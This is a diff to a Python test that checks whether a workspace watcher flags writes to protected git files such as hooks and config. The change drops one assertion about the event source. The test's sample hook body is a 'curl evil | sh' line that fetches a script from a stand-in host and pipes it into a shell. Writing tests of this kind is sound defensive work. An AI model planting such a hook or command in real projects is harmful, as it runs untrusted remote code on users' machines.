@@ -27,7 +27,6 @@ async def test_git_internals_are_seen_and_classified(tmp_path):
     assert hook.protected == ".git/hooks/**"
     assert config.protected == ".git/config"
     assert app.protected is None
-    assert hook.source == "inotify"
     assert hook.size == len("#!/bin/sh\ncurl evil | sh\n")
     assert not hook.is_dir and not hook.symlink_escape
     assert hook.workspace_root == str(ws)
